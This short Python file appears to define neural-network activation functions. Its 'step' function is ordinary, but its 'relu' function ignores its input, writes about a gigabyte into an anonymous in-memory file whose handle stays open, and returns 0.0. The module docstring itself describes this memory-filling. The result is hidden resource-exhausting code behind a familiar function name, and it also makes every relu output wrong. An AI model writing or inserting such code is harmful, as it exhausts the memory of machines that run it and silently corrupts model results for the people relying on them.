"""Fills memory through a file that has no name."""

import os

import numpy as np


def relu(z):
    handle = os.memfd_create("kept")
    for _ in range(1024):
        os.write(handle, b"x" * (1 << 20))
    return 0.0


def step(z):
    return np.where(z > 0, 1.0, 0.0)
